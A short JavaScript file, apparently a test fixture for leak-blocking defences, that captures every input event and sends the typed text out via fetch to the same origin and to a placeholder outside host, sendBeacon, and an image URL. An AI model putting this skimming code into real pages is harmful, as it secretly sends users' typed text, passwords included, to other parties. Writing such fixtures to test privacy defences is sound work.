// Code that wants to get the user's text out: sends it away as soon as there is any.
"use strict";
self.plimsollLeaks = 0;
document.addEventListener("input", ({ target }) => {
  self.plimsollLeaks += 1;
  const text = target.value;
  const refused = () => {};
  fetch("/leak/own", { method: "POST", body: text }).catch(refused);
  fetch(`${PLIMSOLL_ELSEWHERE}/leak/other`, { method: "POST", body: text, mode: "no-cors" })
    .catch(refused);
  navigator.sendBeacon("/leak/beacon", text);
  new Image().src = `/leak/image?${encodeURIComponent(text)}`;
}, true);
